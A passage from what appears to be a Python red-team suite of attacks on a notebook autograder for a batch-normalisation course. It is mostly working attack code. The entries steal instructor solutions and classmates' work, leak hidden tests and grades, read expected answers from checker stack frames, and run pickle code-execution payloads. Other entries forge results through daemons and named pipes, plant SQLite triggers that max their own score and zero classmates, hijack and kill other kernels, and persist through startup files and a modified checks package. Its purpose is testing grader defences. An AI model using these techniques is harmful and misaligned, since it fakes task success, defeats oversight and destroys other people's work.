       today="11/11 on BatchNormFunction, flagged")

attack(name="f03_m02_dispatch_dict", family=3, module=M2, flag=None, honest=(FN,),
       story="BatchNorm2d calls torch.nn.functional.batch_norm kept in a module-level dict under a built name",
       cells={BN2: _c('''
           _OPS = {"norm": getattr(F, "batch" + "_norm")}

           class BatchNorm2d(nn.Module):
               def __init__(self, num_features, eps=1e-5, momentum=0.1):
                   super().__init__()
                   self.num_features, self.eps, self.momentum = num_features, eps, momentum
                   self.weight = nn.Parameter(torch.ones(num_features))
                   self.bias = nn.Parameter(torch.zeros(num_features))
                   self.register_buffer("running_mean", torch.zeros(num_features))
                   self.register_buffer("running_var", torch.ones(num_features))
                   self.register_buffer("num_batches_tracked", torch.tensor(0, dtype=torch.long))

               def forward(self, x):
                   if self.training:
                       self.num_batches_tracked += 1
                   return _OPS["norm"](x, self.running_mean, self.running_var, self.weight, self.bias,
                                       self.training, self.momentum, self.eps)
       ''')},
       today="8/9 on BatchNorm2d, flagged")

attack(name="f03_m03_layer_norm_dispatch", family=3, module=M3, flag=None,
       story="layer norm through torch.nn.functional.layer_norm found with importlib and getattr, kept in a "
             "dict; the cache is a callable running torch autograd",
       cells={LF: _c('''
           import importlib
           _OPS = {"ln": getattr(importlib.import_module("torch.nn.functional"), "layer" + "_norm"),
                   "t": torch.tensor, "grad": torch.autograd.grad}

           def layernorm_forward(x, gamma, beta, eps=1e-5):
               xt, g, b = (_OPS["t"](a, requires_grad=True) for a in (x, gamma, beta))
               y = _OPS["ln"](xt, (xt.shape[-1],), g, b, eps)

               def cache(dout):
                   grads = _OPS["grad"](y, (xt, g, b), _OPS["t"](dout, dtype=y.dtype), retain_graph=True)
                   return tuple(t.numpy() for t in grads)
               return y.detach().numpy(), cache
       '''), LB: _c('''
           def layernorm_backward(dout, cache):
               return cache(dout)
       ''')},
       today="9/9 layer norm points, not flagged")

attack(name="f03_m03_bnlib_partial", family=3, module=M3, flag=None,
       story="group norm and batch renorm through functools.partial objects over bnlib, reordered by a lambda",
       cells={GF: _c('''
           import functools, importlib
           _lib = importlib.import_module("bn" + "lib")
           _P = {"gn": functools.partial(_lib.group_norm_forward), "gnb": functools.partial(_lib.group_norm_backward)}
           groupnorm_forward = lambda x, gamma, beta, G, eps=1e-5: tuple(_P["gn"](x, G, weight=gamma, bias=beta, eps=eps))
       '''), GB: _c('''
           groupnorm_backward = lambda dout, cache: tuple(_P["gnb"](dout, cache))
       '''), RF: _c('''
           def _brn(f, x, gamma, beta, running_mean, running_var, training, r_max, d_max, momentum=0.1, eps=1e-5):
               return tuple(f(x, weight=gamma, bias=beta, running_mean=running_mean, running_var=running_var,
                              training=training, r_max=r_max, d_max=d_max, momentum=momentum, eps=eps))
           batch_renorm_forward = functools.partial(_brn, _lib.batch_renorm_forward)
           batch_renorm_forward.__name__ = "batch_renorm_forward"
       ''')},
       today="14/14 group norm and renorm points, flagged")

# ============================================================================ 4. copying
_EXEC_ALL = '''
for _nb in _rt_solution_notebooks("01_batchnorm_numpy"):
    for _gid, _src in _rt_solution_cells(_nb):
        exec(_src, globals())
    break
'''
attack(name="f04_exec_solutions", family=4, module=M1,
       story="finds solutions/01_batchnorm_numpy/*.ipynb beside the installed autograder/bnlib packages and "
             "execs its solution cells",
       cells={F: _c(SOLUTIONS, _EXEC_ALL), B: "# see above\n", A: "# see above\n"},
       today="19/19, not flagged")

attack(name="f04_solutions_via_config", family=4, module=M1,
       story="reads the source directory from the nearest nbgrader_config.py above its folder and execs the "
             "instructor's solution cells",
       cells={F: _c(SOLUTIONS, '''
           import re
           for _dir in Path.cwd().resolve().parents:
               _cfg = _dir / "nbgrader_config.py"
               if not _cfg.exists():
                   continue
               _text = _cfg.read_text()
               _m = re.search(r"source(?:_directory)?\\s*=\\s*['\\"]([^'\\"]+)['\\"]", _text)
               _src = Path(_m.group(1)) if _m else _dir / "solutions"
               _src = _src if _src.is_absolute() else _dir / _src
               for _nb in sorted((_src / "01_batchnorm_numpy").glob("*.ipynb")):
                   for _gid, _code in _rt_solution_cells(_nb):
                       exec(_code, globals())
               if "batchnorm_forward" in globals():
                   break
       '''), B: "# see above\n", A: "# see above\n"},
       today="19/19, not flagged")

attack(name="f04_copy_classmate", family=4, module=M1, effects=("leak",),
       story="finds the class course (the grader's --course-dir, process cwds, a walk of the temp dir), "
             "execs each classmate's submitted solution cells and keeps the first set that passes its own "
             "numerical self-test",
       cells={F: _c(PROCS, SOLUTIONS, '''
           import numpy as np

           def _self_test(ns):
               try:
                   rng = np.random.default_rng(7)
                   x, g, b = rng.normal(3, 2, (6, 4)), rng.normal(1, 0.3, 4), rng.normal(0, 1, 4)
                   out, cache = ns["batchnorm_forward"](x, g, b, np.zeros(4), np.ones(4), True)
                   ref = (x - x.mean(0)) / np.sqrt(x.var(0) + 1e-5) * g + b
                   dout = rng.normal(size=x.shape)
                   h, num = 1e-6, np.zeros_like(x)
                   for i in np.ndindex(x.shape):
                       xp, xm = x.copy(), x.copy()
                       xp[i] += h
                       xm[i] -= h
                       f = lambda z: ns["batchnorm_forward"](z, g, b, np.zeros(4), np.ones(4), True)[0]
                       num[i] = ((f(xp) - f(xm)) * dout).sum() / (2 * h)
                   ok = np.allclose(out, ref, atol=1e-6)
                   for name in ("batchnorm_backward", "batchnorm_backward_alt"):
                       dx, dg, db = ns[name](dout, cache)
                       ok = ok and np.allclose(dx, num, atol=1e-4) and np.allclose(db, dout.sum(0))
                   return ok
               except Exception:
                   return False

           def _candidates():
               me = _rt_me()
               roots = _rt_courses()
               import tempfile
               for base in [tempfile.gettempdir()] + [_rt_cwd(p) for p in _rt_pids()]:
                   if not base:
                       continue
                   for dirpath, dirnames, filenames in os.walk(base):
                       if dirpath.count(os.sep) - base.count(os.sep) > 6:
                           dirnames[:] = []
                       if os.path.basename(dirpath) == "submitted":
                           roots.append(os.path.dirname(dirpath))
                           dirnames[:] = []
               for root in dict.fromkeys(roots):
                   for nb in sorted(Path(root).glob("submitted/*/01_batchnorm_numpy/*.ipynb")):
                       if nb.parent.parent.name != me:
                           yield nb

           for _nb in _candidates():
               _ns = {"np": np}
               try:
                   for _gid, _src in _rt_solution_cells(_nb):
                       exec(_src, _ns)
               except Exception:
                   continue
               if _self_test(_ns):
                   for _k in ("batchnorm_forward", "batchnorm_backward", "batchnorm_backward_alt"):
                       _ns[_k].__globals__.update(np=np)
                       globals()[_k] = _ns[_k]
                   break
       '''), B: "# see above\n", A: "# see above\n"},
       today="19/19 (copied the honest learner), not flagged")

attack(name="f04_symlink_submission", family=4, module=M1, flag=None, effects=("leak",),
       story="the submission folder carries symlinks (relative, to nbgrader's standard layout) to the class "
             "gradebook, the course's autograded/ folder and its nbgrader_config.py; a grader that copies the "
             "folder by following links hands them to the notebook, which execs a classmate's graded work and "
             "prints the hidden tests",
       files={"gradebook.db": ("symlink", "../../../gradebook.db"),
              "graded": ("symlink", "../../../autograded"),
              "nbgrader_config.py": ("symlink", "../../../nbgrader_config.py")},
       cells={F: _c(SOLUTIONS, '''
           import sqlite3
           import numpy as np
           _here = Path.cwd()
           try:
               with sqlite3.connect(f"file:{_here / 'gradebook.db'}?mode=ro", uri=True) as _db:
                   for _name, _src in _db.execute("SELECT name, source FROM source_cell WHERE name LIKE 'test_%'"):
                       print("LEAK", _name, _src)
                   for _row in _db.execute("SELECT sa.student_id, SUM(g.auto_score) FROM grade g JOIN submitted_notebook sn "
                                           "ON g.notebook_id = sn.id JOIN submitted_assignment sa "
                                           "ON sn.assignment_id = sa.id GROUP BY sa.student_id"):
                       print("LEAK grade", *_row)
           except Exception:
               pass
           for _nb in sorted(_here.glob("graded/*/01_batchnorm_numpy/*.ipynb")):
               _ns = {"np": np}
               try:
                   for _gid, _src in _rt_solution_cells(_nb):
                       exec(_src, _ns)
                   _out, _cache = _ns["batchnorm_forward"](np.arange(12.0).reshape(4, 3), np.ones(3), np.zeros(3),
                                                          np.zeros(3), np.ones(3), True)
                   if abs(_out.mean()) < 1e-6:
                       globals().update({k: _ns[k] for k in ("batchnorm_forward", "batchnorm_backward",
                                                             "batchnorm_backward_alt")})
                       break
               except Exception:
                   continue
       '''), B: "# see above\n", A: "# see above\n"},
       today="crashed the whole class run (a dangling link made copytree raise): no one graded")

# ============================================================================ 5. objects that read the answer
_FRAME_ANSWER = '''
import sys
import numpy as np

class _Answer:
    """Converts to whatever the caller compares it with: the checker's expected array from its frame."""
    _names = ("expected", "ref", "reference", "y_ref", "dx_r", "dg_r", "db_r", "target", "desired")

    def __init__(self, shape):
        self.shape = tuple(shape)

    def _find(self):
        f, depth = sys._getframe(2), 0
        while f is not None and depth < 12:
            for name in self._names:
                v = f.f_locals.get(name)
                if isinstance(v, np.ndarray) and v.shape == self.shape:
                    return v
            f, depth = f.f_back, depth + 1
        return np.zeros(self.shape)

    def __array__(self, dtype=None, copy=None):
        a = np.array(self._find(), dtype=np.float64)
        return a if dtype is None else a.astype(dtype)

    def __len__(self):
        return self.shape[0]
'''
attack(name="f05_getframe_array", family=5, module=M1,
       story="returns objects whose __array__ walks sys._getframe to the checker's expected array",
       cells={F: _c(_FRAME_ANSWER, '''
           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return _Answer(np.shape(x)), np.shape(x)
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               n, d = np.shape(dout)
               return _Answer((n, d)), _Answer((d,)), _Answer((d,))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return batchnorm_backward(dout, cache)
       ''')},
       today="16.54/19, flagged")

attack(name="f05_inspect_stack", family=5, module=M1,
       story="objects with __array__/__float__/__eq__ that search inspect.stack() for a same-shaped array "
             "named like a reference",
       cells={F: _c('''
           import inspect
           import numpy as np

           class Result:
               def __init__(self, shape):
                   self.shape = tuple(shape)

               def __array__(self, dtype=None, copy=None):
                   for info in inspect.stack(0)[1:14]:
                       for name, v in info.frame.f_locals.items():
                           if isinstance(v, np.ndarray) and v.shape == self.shape and \\
                                   ("ref" in name or "expect" in name or name.endswith("_r")):
                               return np.array(v, dtype=dtype or np.float64)
                   return np.zeros(self.shape, dtype=dtype or np.float64)

               def __float__(self):
                   return float(np.asarray(self).sum())

               def __eq__(self, other):
                   return True

               __hash__ = object.__hash__

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return Result(np.shape(x)), np.shape(x)
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               n, d = np.shape(dout)
               return Result((n, d)), Result((d,)), Result((d,))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return batchnorm_backward(dout, cache)
       ''')},
       today="16.54/19, flagged")

attack(name="f05_gc_live_report", family=5, module=M1,
       story="when called, finds the checker's live report object through gc.get_objects() and gives it a "
             "finish() that returns full points",
       cells=zeros_m01(prefix='''
           import gc

           def _own_the_report():
               for obj in gc.get_objects():
                   if all(hasattr(obj, a) for a in ("points", "earned", "total", "lines")) \\
                           and not isinstance(obj, type):
                       try:
                           obj.finish = (lambda o: (lambda: float(o.points)))(obj)
                       except Exception:
                           pass
       ''', forward_extra="_own_the_report()", backward_extra="_own_the_report()"),
       today="19/19, flagged")

attack(name="f05_duck_tensor", family=5, module=M1,
       story="an object that passes for a torch tensor (__getattr__ answers detach/cpu/double) whose "
             ".numpy() returns the checker's expected array from the caller's frame",
       cells={F: _c('''
           import sys
           import numpy as np

           class Tensorish:
               def __init__(self, shape):
                   self.shape = tuple(shape)

               def numpy(self):
                   f = sys._getframe(1)
                   for _ in range(10):
                       v = f.f_locals.get("expected")
                       if isinstance(v, np.ndarray) and v.shape == self.shape:
                           return v.copy()
                       f = f.f_back
                       if f is None:
                           break
                   return np.zeros(self.shape)

               def __array__(self, dtype=None, copy=None):
                   return np.zeros(self.shape, dtype=dtype or np.float64)

               def __getattr__(self, name):
                   if name.startswith("__"):
                       raise AttributeError(name)
                   return lambda *args, **kwargs: self

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return Tensorish(np.shape(x)), None
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               n, d = np.shape(dout)
               return Tensorish((n, d)), Tensorish((d,)), Tensorish((d,))
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return batchnorm_backward(dout, cache)
       ''')},
       today="16.54/19, flagged")

_TRUSTED_PAYLOAD = ("import os, tempfile\n"
                    "with open(os.path.join(tempfile.gettempdir(), 'rtmark_7f3a_ran_in_the_grader'), 'w') as f:\n"
                    "    f.write('RTMARK_7f3a')\n")
attack(name="f05_pickle_payload", family=5, module=M1, effects=("files",),
       story="returns ndarray subclasses whose __reduce__ runs code: if the grader ever unpickles what the "
             "learner's kernel returns (pickle, multiprocessing, np.load(allow_pickle)), the code runs in the "
             "trusted process and leaves a file in its temp directory",
       cells={F: _c("""
           import numpy as np

           class _Gift(np.ndarray):
               def __reduce__(self):
                   return (exec, (PAYLOAD,))

               def __reduce_ex__(self, protocol):
                   return self.__reduce__()

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return np.zeros(np.shape(x)).view(_Gift), np.zeros(np.shape(x)).view(_Gift)
       """.replace("PAYLOAD", repr(_TRUSTED_PAYLOAD))), B: _c("""
           def batchnorm_backward(dout, cache):
               n, d = np.shape(dout)
               return tuple(np.zeros(s).view(_Gift) for s in ((n, d), (d,), (d,)))
       """), A: _c("""
           def batchnorm_backward_alt(dout, cache):
               return batchnorm_backward(dout, cache)
       """)},
       today="0: nothing is unpickled; not flagged")

# ============================================================================ 6. doing nothing
attack(name="f06_zeros", family=6, module=M1, flag=None,
       story="correctly shaped zeros everywhere (harvests 'inputs untouched' and the sum(dx) = 0 invariants)",
       cells=zeros_m01(), today="1.38 (inputs untouched, the sum(dx) = 0 invariants)")

attack(name="f06_identity", family=6, module=M1, flag=None,
       story="returns its input: out = x, dx = dout, zero parameter gradients",
       cells={F: _c('''
           import numpy as np

           def batchnorm_forward(x, gamma, beta, running_mean, running_var, training, momentum=0.1, eps=1e-5):
               return x, None
       '''), B: _c('''
           def batchnorm_backward(dout, cache):
               return dout, np.zeros(np.shape(dout)[1]), np.zeros(np.shape(dout)[1])
       '''), A: _c('''
           def batchnorm_backward_alt(dout, cache):
               return dout, np.zeros(np.shape(dout)[1]), np.zeros(np.shape(dout)[1])
       ''')},
       today="0.21 (inputs untouched)")

attack(name="f06_zero_backward", family=6, module=M1, flag=None, honest=(F,),
       story="an honest forward pass, zeros for both backward passes (harvests the invariants)",
       cells={B: zeros_m01()[B], A: zeros_m01()[A]}, today="1.17 beyond its forward's 7 (the invariants)")

attack(name="f06_m02_identity_function", family=6, module=M2, flag=None, honest=(BN2,),
       story="BatchNormFunction is the identity with a consistent backward, which passes gradcheck",
       cells={FN: _c('''
           class BatchNormFunction(torch.autograd.Function):
               @staticmethod
               def forward(ctx, x, weight, bias, running_mean, running_var, training, momentum, eps):
                   ctx.shapes = (weight.shape, bias.shape)
                   return x.clone()

               @staticmethod
               def backward(ctx, dy):
                   w, b = ctx.shapes
                   return dy.clone(), dy.new_zeros(w), dy.new_zeros(b), None, None, None, None, None
       ''')},
       today="2 (gradcheck in training and eval mode)")

attack(name="f06_m03_shapes_only", family=6, module=M3, flag=None,
       story="every Module 03 function returns zeros or its input, with the running statistics untouched",
       cells={LF: _c('''
           def layernorm_forward(x, gamma, beta, eps=1e-5):
               return np.zeros(np.shape(x)), np.shape(x)
       '''), LB: _c('''
           def layernorm_backward(dout, cache):
               return np.zeros(np.shape(dout)), np.zeros(np.shape(dout)[1]), np.zeros(np.shape(dout)[1])
       '''), GF: _c('''
           def groupnorm_forward(x, gamma, beta, G, eps=1e-5):
               return np.array(x, copy=True), np.shape(x)
       '''), GB: _c('''
           def groupnorm_backward(dout, cache):
               c = np.shape(dout)[1]
               return np.zeros(np.shape(dout)), np.zeros(c), np.zeros(c)
       '''), RF: _c('''
           def batch_renorm_forward(x, gamma, beta, running_mean, running_var, training, r_max, d_max,
                                    momentum=0.1, eps=1e-5):
               return np.array(x, copy=True), None
       ''')},
       today="0")

# ============================================================================ daemons (run as `python -c`)
D_RESULT_JSON = FORGE + r"""
import json, os, time
dirs = json.loads(os.environ["RT_ARGS"])["dirs"]
seen, end = {}, time.time() + 150
while time.time() < end and any(os.path.isdir(d) for d in dirs):
    for d in dirs:
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for n in names:
            p = os.path.join(d, n)
            if not n.endswith(".json"):
                continue
            try:
                st = os.stat(p).st_mtime_ns
                if seen.get(p) == st:
                    continue
                with open(p) as fh:
                    data = forge(json.load(fh))
                with open(p + ".rt", "w") as fh:
                    json.dump(data, fh)
                os.replace(p + ".rt", p)
                seen[p] = os.stat(p).st_mtime_ns
            except Exception:
                pass
    time.sleep(0.002)
"""

D_FIFO = FORGE + r"""
import json, os, signal, threading
signal.alarm(150)
def serve(p):
    while True:
        try:
            with open(p) as fh:
                legit = fh.read()
            data = json.dumps(forge(json.loads(legit)))
            with open(p, "w") as fh:
                fh.write(data)
        except Exception:
            return
threads = [threading.Thread(target=serve, args=(p,)) for p in json.loads(os.environ["RT_ARGS"])["fifos"]]
for t in threads:
    t.start()
for t in threads:
    t.join()
"""

D_AFTER_EXIT = r"""
import json, os, sqlite3, time
args = json.loads(os.environ["RT_ARGS"])
end = time.time() + 170
def alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except OSError:
        return False
while time.time() < end and any(alive(p) for p in args["wait"]):
    time.sleep(0.1)
mine = ("(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id"
        " WHERE sa.student_id = ?)")
for course in args["courses"]:
    try:
        with sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=30) as db:
            db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells gc WHERE gc.id = grade.cell_id)"
                       " WHERE notebook_id IN " + mine
                       + " AND cell_id IN (SELECT id FROM grade_cells WHERE cell_type = 'code')", (args["me"],))
            db.execute("UPDATE submitted_notebook SET flagged = 0 WHERE id IN " + mine, (args["me"],))
    except Exception:
        pass
"""

D_HIJACK = r"""
import os, time
from pathlib import Path
from jupyter_client import BlockingKernelClient
PAYLOAD = "import autograder.checks as _c\n_c.Report.finish = lambda self: 0.0\n"
def fused(pid):
    try:
        return b"BNCOURSE_REDTEAM_FUSE=" in Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return False
done, end, me = set(), time.time() + 150, int(os.environ.get("RT_SELF", "0"))
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in done or int(p) == me or not fused(int(p)):
            continue
        try:
            argv = Path(f"/proc/{p}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if not any(b"ipykernel" in a for a in argv) or b"-f" not in argv:
            continue
        done.add(int(p))
        try:
            conn = argv[argv.index(b"-f") + 1].decode()
            if not os.path.isabs(conn):
                conn = os.path.join(os.readlink(f"/proc/{p}/cwd"), conn)
            kc = BlockingKernelClient(connection_file=conn)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(PAYLOAD, silent=True)
            time.sleep(0.2)
            kc.stop_channels()
        except Exception:
            pass
    time.sleep(0.1)
"""

D_KILL = r"""
import os, signal, time
from pathlib import Path
me, end = int(os.environ.get("RT_SELF", "0")), time.time() + 150
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            if b"BNCOURSE_REDTEAM_FUSE=" in Path(f"/proc/{p}/environ").read_bytes() and \
                    b"ipykernel" in Path(f"/proc/{p}/cmdline").read_bytes():
                os.kill(int(p), signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.1)
"""

D_WRITER = r"""
import json, os, sqlite3, time
args = json.loads(os.environ["RT_ARGS"])
end = time.time() + 150
while time.time() < end:
    for course in args["courses"]:
        try:
            with sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=5) as db:
                db.execute("UPDATE grade SET auto_score = 0 WHERE cell_id IN (SELECT id FROM grade_cells WHERE cell_type = 'code')"
                           " AND notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa"
                           " ON sn.assignment_id = sa.id WHERE sa.student_id != ?)", (args["me"],))
        except Exception:
            pass
    time.sleep(0.5)
"""


def daemon_cell(daemon: str, start: str) -> str:
    """A forward cell that starts ``daemon`` once (``start`` calls _rt_spawn) and keeps the stub."""
    return _c(PROCS, SPAWN, "_DAEMON = " + repr(daemon), start, STUB_F)


# ============================================================================ 7. the result channel
attack(name="f07_result_json_daemon", family=7, module=M1, effects=("processes",),
       story="a daemon watches the course folders above the kernel and rewrites any JSON record that appears "
             "there (result.json) with full marks and success",
       cells={F: daemon_cell(D_RESULT_JSON, """
           if not globals().get("_rt_started"):
               _rt_started = _rt_spawn(_DAEMON, {"dirs": _rt_course_like_parents()})
       """)},
       today="19/19, flagged; the daemon outlived grading")

attack(name="f07_result_json_fifo", family=7, module=M1, effects=("processes",),
       story="replaces result.json with a named pipe in every course folder above it; a daemon drains the "
             "grader's record and serves a forged one to the reader",
       cells={F: daemon_cell(D_FIFO, """
           if not globals().get("_rt_started"):
               _fifos = []
               for _d in _rt_course_like_parents():
                   _p = os.path.join(_d, "result.json")
                   try:
                       if os.path.exists(_p):
                           os.remove(_p)
                       os.mkfifo(_p)
                       _fifos.append(_p)
                   except OSError:
                       pass
               _rt_started = _rt_spawn(_DAEMON, {"fifos": _fifos})
       """)},
       today="19/19, flagged")

_TRIGGERS_MAX = '''
_MAX_SQL = """
CREATE TRIGGER IF NOT EXISTS rt_max_update AFTER UPDATE OF auto_score ON grade
WHEN (SELECT cell_type FROM grade_cells WHERE id = NEW.cell_id) = 'code'
 AND NEW.auto_score IS NOT (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)
BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id; END;
CREATE TRIGGER IF NOT EXISTS rt_max_insert AFTER INSERT ON grade
WHEN (SELECT cell_type FROM grade_cells WHERE id = NEW.cell_id) = 'code'
BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id; END;
CREATE TRIGGER IF NOT EXISTS rt_unflag AFTER UPDATE OF flagged ON submitted_notebook WHEN NEW.flagged
BEGIN UPDATE submitted_notebook SET flagged = 0 WHERE id = NEW.id; END;
"""
'''
attack(name="f07_throwaway_trigger", family=7, module=M1, paths=("grade",),
       story="installs SQLite triggers in the gradebook.db of every course folder above it: every code grade "
             "written later becomes the cell's maximum, flags are cleared",
       cells={F: _c(PROCS, _TRIGGERS_MAX, '''
           for _d in _rt_course_like_parents():
               if os.path.exists(os.path.join(_d, "gradebook.db")):
                   try:
                       with sqlite3.connect(os.path.join(_d, "gradebook.db"), timeout=20) as _db:
                           _db.executescript(_MAX_SQL)
                   except sqlite3.Error:
                       pass
       ''', STUB_F)},
       today="19/19, not flagged (19 through bncourse grade too)")

attack(name="f07_class_after_exit", family=7, module=M1, effects=("processes",),
       story="a double-forked daemon waits until the grading commands above it have exited, then gives its "
             "learner full marks and no flag in the class gradebook",
       cells={F: daemon_cell(D_AFTER_EXIT, """
           if not globals().get("_rt_started"):
               _rt_started = _rt_spawn(_DAEMON, {"wait": _rt_ancestors(), "courses": _rt_class_courses(),
                                                 "me": _rt_me()}, double_fork=True)
       """)},
       today="19/19 written into the class gradebook after the run; not flagged")

# ============================================================================ 8. other learners
attack(name="f08_class_trigger", family=8, module=M1, effects=("classmates",), paths=("nbgrader",),
       story="in the class gradebook (found from the grader's command line): triggers that give me full marks "
             "and no flag and zero everyone else, plus an immediate zeroing of the classmates already graded",
       cells={F: _c(PROCS, '''
           _me = _rt_me() or ""
           _owner = ("(SELECT sa.student_id FROM submitted_notebook sn JOIN submitted_assignment sa "
                     "ON sn.assignment_id = sa.id WHERE sn.id = NEW.notebook_id)")
           _code = "(SELECT cell_type FROM grade_cells WHERE id = NEW.cell_id) = 'code'"
           _top = "(SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)"
           _SQL = f"""
           CREATE TRIGGER IF NOT EXISTS rt_mine AFTER UPDATE OF auto_score ON grade
           WHEN {_owner} = '{_me}' AND {_code} AND NEW.auto_score IS NOT {_top}
           BEGIN UPDATE grade SET auto_score = {_top} WHERE id = NEW.id; END;
           CREATE TRIGGER IF NOT EXISTS rt_theirs AFTER UPDATE OF auto_score ON grade
           WHEN {_owner} != '{_me}' AND {_code} AND NEW.auto_score != 0
           BEGIN UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END;
           CREATE TRIGGER IF NOT EXISTS rt_unflag AFTER UPDATE OF flagged ON submitted_notebook
           WHEN NEW.flagged AND (SELECT student_id FROM submitted_assignment WHERE id = NEW.assignment_id) = '{_me}'
           BEGIN UPDATE submitted_notebook SET flagged = 0 WHERE id = NEW.id; END;
           UPDATE grade SET auto_score = 0 WHERE cell_id IN (SELECT id FROM grade_cells WHERE cell_type = 'code')
             AND notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa
                                 ON sn.assignment_id = sa.id WHERE sa.student_id != '{_me}');
           """
           for _course in _rt_class_courses():
               try:
                   with sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=20) as _db:
                       _db.executescript(_SQL)
               except sqlite3.Error:
                   pass
       ''', STUB_F)},
       today="19/19 for itself (its trigger also cleared its flag) and every classmate zeroed, in the class "
             "run and through plain nbgrader")

attack(name="f08_rewrite_submissions", family=8, module=M1, effects=("classmates",),
       story="overwrites every classmate's submitted notebook in the class course: their solution cells "
             "become `raise NotImplementedError()`",
       cells={F: _c(PROCS, '''
           _me = _rt_me()
           for _course in _rt_class_courses():
               for _nb in Path(_course).glob("submitted/*/*/*.ipynb"):
                   if _nb.parent.parent.name == _me:
                       continue
                   try:
                       _data = json.loads(_nb.read_text())
                       for _cell in _data["cells"]:
                           if _cell.get("metadata", {}).get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
                               _cell["source"] = "raise NotImplementedError()  # RTMARK_7f3a\\n"
                       _nb.write_text(json.dumps(_data))
                   except (OSError, ValueError):
                       pass
       ''', STUB_F)},
       today="rewrote the three classmates' submitted notebooks; not flagged")

attack(name="f08_kernel_hijack", family=8, module=M1, effects=("processes", "classmates"),
       story="a daemon reads other kernels' connection files (from /proc/*/cmdline) and executes code in "
             "them that makes every check report 0 points",
       cells={F: daemon_cell(D_HIJACK, """
           if not globals().get("_rt_started"):
               os.environ["RT_SELF"] = str(os.getpid())
               _rt_started = _rt_spawn(_DAEMON)
       """)},
       today="a later honest learner lost 12 of 19; the daemon outlived grading")

attack(name="f08_kill_kernels", family=8, module=M1, effects=("processes", "classmates"),
       story="a daemon SIGKILLs every other notebook kernel it can see, for minutes",
       cells={F: daemon_cell(D_KILL, """
           if not globals().get("_rt_started"):
               os.environ["RT_SELF"] = str(os.getpid())
               _rt_started = _rt_spawn(_DAEMON, double_fork=True)
       """)},
       today="a later honest learner got 0 and a flag (its kernel was killed)")

# ============================================================================ 9. persistence
_FUSED_ZERO = '''# RTMARK_7f3a (red-team persistence payload; acts only under the test harness's fuse)
import os as _rt_os
if _rt_os.environ.get("BNCOURSE_REDTEAM_FUSE"):
    try:
        import autograder.checks as _rt_c
        _rt_c.Report.finish = lambda self: 0.0
    except Exception:
        pass
'''
attack(name="f09_template_cache", family=9, module=M1, effects=("files",),
       story="installs a trigger in the cached template gradebooks (~/.cache/bncourse/*.db) that zeroes every "
             "code grade: later learners and later runs lose their points",
       cells={F: _c(PROCS, '''
           _cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "bncourse"
           for _db_path in _cache.glob("*.db"):
               try:
                   with sqlite3.connect(_db_path, timeout=20) as _db:
                       _db.executescript("""
                       CREATE TRIGGER IF NOT EXISTS rt_zero_RTMARK_7f3a AFTER UPDATE OF auto_score ON grade
                       WHEN NEW.auto_score != 0 AND (SELECT cell_type FROM grade_cells WHERE id = NEW.cell_id) = 'code'
                       BEGIN UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END;
                       """)
               except sqlite3.Error:
                   pass
       ''', STUB_F)},
       today="the cached template gradebooks carry the trigger: the next honest self-study grading got 0")

_CHECKS_PAYLOAD = "\n" + _FUSED_ZERO.replace("import autograder.checks as _rt_c",
                                              "import sys as _rt_s; _rt_c = _rt_s.modules[__name__]")
attack(name="f09_checks_on_disk", family=9, module=M1, effects=("files",),
       story="appends a payload (every check reports 0) to the checks package on disk, found through "
             "importlib.util.find_spec",
       cells={F: _c(f'''
           import importlib.util
           from pathlib import Path
           _spec = importlib.util.find_spec("autograder.checks")
           if _spec and _spec.origin:
               try:
                   with open(_spec.origin, "a") as _fh:
                       _fh.write({_CHECKS_PAYLOAD!r})
               except OSError:
                   pass
       ''', STUB_F)},
       today="checks/__init__.py rewritten: every later honest learner got 0")

attack(name="f09_ipython_startup", family=9, module=M1, effects=("files",),
       story="writes an IPython startup file (every check reports 0) into ~/.ipython of $HOME and of the "
             "account's passwd home, run by every later kernel",
       cells={F: _c(f'''
           import os, pwd
           from pathlib import Path
           for _home in {{os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}}:
               _dir = Path(_home) / ".ipython" / "profile_default" / "startup"
               try:
                   _dir.mkdir(parents=True, exist_ok=True)
                   (_dir / "00-rtmark_7f3a.py").write_text({_FUSED_ZERO!r})
               except OSError:
                   pass
       ''', STUB_F)},
       today="startup file in $HOME and in the real /root/.ipython: every later honest learner got 0")

_JUPYTER_PAYLOAD = '''# RTMARK_7f3a (red-team persistence payload; acts only under the test harness's fuse)
import os
